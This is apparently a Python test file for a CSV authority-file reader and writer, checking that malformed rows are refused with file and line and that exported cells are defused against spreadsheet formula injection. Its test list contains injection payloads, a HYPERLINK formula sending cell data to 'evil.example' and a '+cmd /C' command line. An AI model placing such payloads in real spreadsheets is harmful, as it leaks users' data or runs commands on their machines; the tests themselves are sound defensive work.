"""A curated authority file that is broken or hostile: one ``file:line: reason`` line each, and
nothing read from it (no Django: the checks are :mod:`sourcebook.core.authority_file`'s)."""

from __future__ import annotations

import csv
import io

import pytest

from sourcebook.core.authority_file import read_csv

HEADER = "id,name,kind,description,variants\n"


@pytest.mark.parametrize(
    ("body", "line", "reason"),
    [
        # An unclosed quote: before, the rest of the file became one name.
        ('ok,Good,person,,\nx,"Kim Il-sung,person,,\nnext,Next,person,,\n', 3, "unexpected end"),
        # Longer than the csv module reads: before, a traceback.
        ("x,Kim,person," + "a" * 200_000 + ",\n", 2, "field larger than field limit"),
        ("x,Ki\x00m,person,,\n", 2, "U+0000 in column 'name'"),  # PostgreSQL refuses NUL
        ('x,"Kim\nIl-sung",person,,\n', 2, "U+000A in column 'name'"),
        ("x,Kim,person,,Kim\tIl\n", 2, "U+0009 in column 'variants'"),
        ("x,Kim,person,Premier\x1b[2J,\n", 2, "U+001B in column 'description'"),
        ("x,Kim\x85Il-sung,person,,\n", 2, "U+0085 in column 'name'"),
        ('ok,Good,person,,\n\n"y","Pak\r\nHon-\nyong",person,,\n', 4, "U+000D in column 'name'"),
    ],
)
def test_refused_with_file_line_and_reason(body, line, reason):
    rows, errors = read_csv((HEADER + body).encode(), "persons.csv")
    assert rows == []
    assert len(errors) == 1
    assert errors[0].startswith(f"persons.csv:{line}: ")
    assert reason in errors[0]


def test_a_description_may_span_lines():
    body = 'x,Kim Il-sung,person,"Premier.\nChairman of the party.",Kim Il Sung\n'
    rows, errors = read_csv((HEADER + body).encode(), "persons.csv")
    assert errors == []
    assert rows[0].description == "Premier.\nChairman of the party."
    assert rows[0].variants == ["Kim Il Sung"]


# Names and descriptions a TEI volume or an editor may bring that a spreadsheet would run.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Kim")',
    "+cmd /C calc!A0",
    "-2+3",
    "@SUM(1+1)",
    "'=already quoted",
    "''-twice",
    "'Abd al-Rahman",  # an apostrophe before a letter stays as it is
    "Kim Il-sung",
]


def test_exported_cells_never_start_a_formula_and_read_back_as_written():
    from sourcebook.core.authority_file import write_csv

    rows = [
        {"id": f"p{n}", "name": name, "kind": "person", "description": name, "variants": [name]}
        for n, name in enumerate(FORMULAS)
    ]
    written = write_csv(rows)
    cells = [cell for line in csv.reader(io.StringIO(written)) for cell in line]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    assert "'=HYPERLINK(" in written and "'+cmd /C" in written
    back, errors = read_csv(written.encode(), "authorities.csv")
    assert errors == []
    assert [(r.name, r.description, r.variants) for r in back] == [
        (name, name, [name]) for name in FORMULAS
    ]
